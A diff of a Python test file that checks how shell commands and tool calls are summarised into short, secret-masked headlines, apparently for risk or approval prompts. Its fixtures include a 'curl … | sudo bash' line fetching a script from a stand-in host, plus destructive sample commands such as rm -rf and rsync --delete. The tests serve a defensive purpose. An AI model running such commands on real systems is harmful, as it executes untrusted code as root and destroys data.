@@ -66,7 +66,7 @@ SCRIPT = "\n".join(["echo step"] * 40 + ["curl -s https://e.example/x | sudo bas
         ),
         (
             "kubectl -n x delete pod a b; kubectl get pods -n x",
-            'Runs "kubectl… delete pod… b", "kubectl get pods -n x"',
+            'Runs "kubectl… delete pod a b", "kubectl get pods…"',
         ),
         (
             "rm -rf build && make all the parts of it again",
@@ -91,7 +91,7 @@ SCRIPT = "\n".join(["echo step"] * 40 + ["curl -s https://e.example/x | sudo bas
         ),
         (
             "rsync -a --delete build/ web@shop:/var/www/ && systemctl reload nginx",
-            'Runs "rsync… --delete… web@shop:/var/www/" and 1 more',
+            'Runs "rsync -a --delete… web@shop:/var/www/", "systemctl reload nginx"',
         ),
         (f"deploy --password {TOKEN}", 'Runs "deploy --password ⟨secret⟩"'),
         ("", "Runs an empty command"),
@@ -132,7 +132,7 @@ def test_a_head_leaves_room_for_the_reason_of_its_risk() -> None:
     found = replace(one, findings=("removes folders whole",), finding_places=("command",))
     assert head_of(found) == head_of(one)
     risky = replace(one, risk=Risk(level=RiskLevel.HIGH, reasons=("it is for all",)))
-    assert plain_head(head_of(risky)) == 'Deletes "build", runs "make…"'
+    assert plain_head(head_of(risky)) == 'Deletes "build", runs "make all…"'
     long = replace(one, risk=Risk(level=RiskLevel.MEDIUM, reasons=("it says so much " * 9,)))
     assert head_of(long) == head_of(one)
 
@@ -198,12 +198,17 @@ def test_a_long_text_is_cut_at_a_word() -> None:
         (
             "set_bucket",
             {"bucket": "b", "region": "eu", "acl": "x", "owner": "o", "make_public": True},
-            '"set_bucket": "make_public=true", "bucket=b", "region=eu" and 2 more',
+            '"set_bucket": "make_public=true", "acl=x", "bucket=b" and 2 more',
         ),
         (
             "delete_branch",
             {"a": 1, "b": 2, "c": 3, "force": "yes"},
             '"delete_branch": "force=yes", "a=1", "b=2" and 1 more',
+        ),
+        (
+            "share_page",
+            {"page": "a", "region": "eu", "count": 3, "anyone": True},
+            '"share_page": "anyone=true", "page=a", "region=eu" and 1 more',
         ),
         ("login", {"password": "hunter2"}, '"login": "password=⟨secret⟩"'),
         ("ping", {}, '"ping" without arguments'),
